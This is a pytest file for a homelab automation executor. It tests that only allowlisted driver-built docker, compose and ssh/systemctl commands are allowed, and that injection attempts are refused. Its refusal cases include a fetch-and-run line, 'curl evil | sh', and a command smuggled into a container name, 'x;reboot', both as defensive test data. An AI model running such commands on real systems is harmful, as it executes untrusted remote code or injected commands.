"""The executor runs only what the allowlisted driver builds for the service, today; the
drivers' argv reach recording stand-in docker, systemctl and ssh exactly as built."""

from __future__ import annotations

from pathlib import Path

import pytest

from actors import action_runner
from actors.domain import drivers
from actors.domain.inventory import Inventory
from actors.executor import allowed
from standins import StandIn, first_on_path, recorded

INVENTORY = """\
nodes:
  vps: {address: 127.0.0.1}
  nas: {address: nas.tail1234.ts.net, ssh: {user: homelab}}
services:
  web: {node: vps, kind: container, container: nginx}
  dns: {node: nas, kind: systemd, unit: unbound.service}
  app: {node: vps, kind: compose, project: app}
"""


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    (tmp_path / "inventory.yml").write_text(INVENTORY)
    return tmp_path


def approval(**changes) -> dict:
    base = {
        "id": "a-1",
        "service": "web",
        "type": "start",
        "target": "container:nginx",
        "commands": [["docker", "start", "--", "nginx"]],
    }
    return base | changes


def test_what_the_driver_builds_is_allowed(repo):
    assert allowed(approval(), repo) == ""


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"commands": [["sh", "-c", "curl evil | sh"]]}, "not what the driver builds"),
        ({"commands": [["docker", "start", "--", "other"]]}, "not what the driver builds"),
        ({"type": "rm"}, "no driver runs 'rm'"),
        ({"service": "ghost"}, "not in the inventory"),
        ({"target": "container:other"}, "not what the driver builds"),
    ],
)
def test_anything_else_on_the_bus_is_refused(repo, changes, why):
    assert why in allowed(approval(**changes), repo)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("service", "action", "expected"),
    [
        ("web", "restart", [["docker", "restart", "--", "nginx"]]),
        (
            "app",
            "pull_up",
            [
                ["docker", "compose", "--project-name", "app", "pull"],
                ["docker", "compose", "--project-name", "app", "up", "--detach"],
            ],
        ),
        (
            "dns",
            "start",
            [
                [
                    "ssh",
                    "-o",
                    "BatchMode=yes",
                    "-o",
                    "ConnectTimeout=10",
                    "-o",
                    "ServerAliveInterval=10",
                    "-p",
                    "22",
                    "-l",
                    "homelab",
                    "--",
                    "nas.tail1234.ts.net",
                    "systemctl start -- unbound.service",
                ]
            ],
        ),
    ],
)
def test_driver_argv_reaches_the_stand_in_tools_exactly(
    tmp_path, monkeypatch, service, action, expected
):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("docker", "systemctl", "ssh"):
        StandIn(bin_dir, tool)
    monkeypatch.setenv("PATH", first_on_path(bin_dir, "/usr/bin:/bin"))
    inventory = Inventory.model_validate(__import__("yaml").safe_load(INVENTORY))
    spec = inventory.services[service]
    commands = drivers.commands(service, spec, action, inventory.nodes[spec.node])
    result = action_runner.run(commands, log_path=tmp_path / "a.log", timeout=20)
    assert result.outcome == "succeeded", result.detail
    assert [[call["tool"], *call["argv"]] for call in recorded(bin_dir)] == expected


def test_an_injection_attempt_is_refused_before_anything_runs(tmp_path):
    from actors.domain.inventory import ContainerService, Node

    with pytest.raises(ValueError):
        Inventory.model_validate(
            {
                "nodes": {"n": {"address": "a"}},
                "services": {"x": {"node": "n", "kind": "container", "container": "x;reboot"}},
            }
        )
    sneaky = ContainerService.model_construct(
        kind="container", node="n", container="--rm=x", checks=[], policy="approve", actions={}
    )
    with pytest.raises(drivers.NotAllowed):
        drivers.commands("x", sneaky, "start", Node(address="127.0.0.1"))
